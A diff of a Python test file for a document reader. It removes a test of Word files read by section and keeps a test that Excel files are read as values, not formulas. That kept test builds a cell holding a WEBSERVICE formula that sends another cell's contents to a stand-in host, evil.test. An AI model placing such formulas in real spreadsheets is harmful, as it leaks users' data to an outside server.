@@ -29,23 +29,6 @@ async def refusal(content: bytes, name: str = "file", limits: EvidenceLimits = L
     return str(refused.value)
 
 
-async def test_word_is_read_by_section_with_tables() -> None:
-    text = await read(a_word_file())
-    assert [(mark.line, mark.label) for mark in text.marks] == [
-        (1, "beginning"),
-        (3, "section “Cost”"),
-        (10, "section “Risks”"),
-    ]
-    assert text.text.splitlines()[2:8] == [
-        "# Cost",
-        "",
-        "The managed offer costs $1,840 per month.",
-        "",
-        "Vendor | Price",
-        "Northwind | 960",
-    ]
-
-
 async def test_excel_is_read_by_sheet_and_row_with_values_not_formulas() -> None:
     text = await read(an_excel_file('=WEBSERVICE("https://evil.test/?"&B2)'))
     assert text.text.startswith("Month | Jobs\nMarch | 2000\nApril | 2500.5\n | 24000")
